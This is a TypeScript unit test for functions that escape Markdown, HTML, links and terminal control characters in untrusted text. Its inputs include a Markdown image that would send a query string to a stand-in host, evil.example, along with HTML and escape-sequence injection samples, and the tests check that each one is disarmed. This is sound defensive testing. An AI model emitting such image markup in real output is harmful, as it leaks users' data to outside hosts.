import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { block, inline } from "../../../functions/shared/escape.ts";

describe("inline", () => {
  it.each([
    ["a table cell's end", "a|b", "a\\|b"],
    ["code", "`x`", "\\`x\\`"],
    ["HTML", "<img src=x>", "\\<img src=x\\>"],
    ["an image that would carry data out", "![x](https://evil.example/?q=1)", "!\\[x\\](https&#58;//evil.example/?q=1)"],
    ["a bare address", "www.evil.example", "www&#46;evil.example"],
    ["an e-mail address", "ann@evil.example, a@@b", "ann`@`evil.example, a`@@`b"],
    ["an e-mail address among backticks", "`a@b`", "\\`a`@`b\\`"],
    ["line breaks", "a\r\nb\u2028c", "a b c"],
    ["terminal sequences and reversed text", "\u001b[31m\u202Etxt", "\uFFFD\\[31m\uFFFDtxt"],
    ["entities", "&lt;b&gt;", "&amp;lt;b&amp;gt;"],
    ["a list at the start", "- x", "\\- x"],
    ["a numbered list at the start", "1. x", "1\\. x"],
    ["a backslash", "\\|", "\\\\\\|"],
  ])("disarms %s", (_, text, expected) => expect(inline(text)).toBe(expected));

  it("leaves an ARN readable", () => expect(inline("arn:aws:iam::123456789012:role/path/admin-1")).toBe("arn:aws:iam::123456789012:role/path/admin-1"));

  it("never lets a line break or an unescaped special character through", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const out = inline(text);
        expect(out).not.toMatch(/[\r\n]/);
        expect(out).not.toMatch(/[^`@]@|@[^`@]/);
        expect(
          out
            .replace(/`@+`/g, "")
            .replace(/\\[\\`*_[\]<>|#~]/g, "")
            .replace(/&(amp|#58|#46);/g, ""),
        ).not.toMatch(/[`*_[\]<>|#~&]/);
      }),
    );
  });
});

describe("block", () => {
  it("keeps lines and lists, and nothing else of the markup", () => {
    expect(block("# Title\nTwo:\n- *a*\n1. b\n\n---\n> q")).toBe("\\# Title  \nTwo:  \n- \\*a\\*\n1. b\n\n\\---  \n\\> q  ");
  });
});
